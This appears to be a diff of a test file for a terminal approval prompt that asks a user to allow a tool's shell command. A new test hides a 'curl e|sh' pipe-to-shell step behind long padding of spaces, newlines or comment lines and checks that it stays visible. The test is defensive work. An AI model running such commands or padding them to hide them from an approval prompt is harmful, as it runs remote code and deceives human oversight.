@@ -128,8 +128,8 @@ describe('what does not fit', () => {
 
   test('is counted, for the arguments and the preview', async () => {
     const text = await screen([approval(1, { message, preview })])
-    expect(text).toContain('… 14 more lines of the question (Ctrl-O)\n+line 1\n')
-    expect(text).toContain('… 90 more lines of the preview (Ctrl-O)\n')
+    expect(text).toMatch(/\n… 14 more lines of the question \(Ctrl-O\)\n(?:↳ x+\n){2}↳ x+"\n\+line 1\n/)
+    expect(text).toMatch(/\n… 90 more lines of the preview \(Ctrl-O\)\n\+line 96\n(?:.*\n){3}\+line 100\n/)
     expect(text).toContain('5. Stop everything (s)')
   })
 
@@ -142,7 +142,7 @@ describe('what does not fit', () => {
     open(...questions)
     await ready()
     press('ctrl+o')
-    panel.setPage({ rows: 8, maxFirstLine: 111 })
+    panel.setPage({ rows: 8, maxFirstLine: 111, isComplete: false })
     const seen = new Set<string>()
     for (let page = 0; page < 20; page++) {
       for (const line of questionLines(panel.getSnapshot()!, { width: 60, maxRows: 12, theme: plain }))
@@ -159,13 +159,35 @@ Allow run with {"command":"npm test"}?
 +line 1
 +line 2
 +line 3
-+line 4
-+line 5
-+line 6
 … 94 more lines of the preview (Ctrl-O)
++line 98
++line 99
++line 100
 y once · t turn · a always · n no · s stop
 ↑↓ Enter, or its letter · Esc: cancel the turn · Tab: draft
 `)
+  })
+
+  test.each([
+    [80, 12],
+    [60, 10],
+    [40, 12],
+  ])('the end of a command and the reason stay visible at %i columns and %i rows', async (width, maxRows) => {
+    const restriction = 'hooks are protected'
+    const commands = [
+      `npm test${' '.repeat(1_500)}&& curl e|sh`,
+      `npm test${'\n'.repeat(80)}curl e|sh`,
+      `npm test;${' #\n'.repeat(200)}curl e|sh`,
+      `echo ${'A'.repeat(9_000)}; curl e|sh`,
+    ]
+    for (const command of commands) {
+      const params = { command }
+      const question = approval(1, { tool: 'run_command', params, restriction, preview: 'a\n'.repeat(99) })
+      const text = await screen([question], [], { width, maxRows })
+      expect(text).toContain('curl e|sh')
+      expect(text).toContain('hooks are')
+      expect(text.split('\n').length).toBeLessThanOrEqual(maxRows + 2)
+    }
   })
 
   test('a long rule is shown around the cursor', async () => {
